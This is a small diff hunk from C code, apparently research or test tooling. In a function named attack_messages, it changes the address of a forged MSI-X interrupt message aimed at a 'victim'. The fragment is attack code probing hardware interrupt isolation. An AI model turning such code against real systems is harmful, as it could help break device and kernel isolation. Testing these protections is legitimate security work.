@@ -305,7 +305,7 @@ attack_messages(const struct attack *a)
 		pci_msix_set(m, DRIVER_VECTOR, &nowhere[i], true);
 		(void)rng_read(&victim);
 	}
-	pci_msix_set(m, DRIVER_VECTOR, &(struct msi){ ~0xfffull, 0x5a }, false);
+	pci_msix_set(m, DRIVER_VECTOR, &(struct msi){ 0xfeefe000, 0x5a }, false);
 	pci_msix_control(m, true, false);
 	(void)rng_read(&victim);
 	pci_msix_set(m, DRIVER_VECTOR, &message, false);
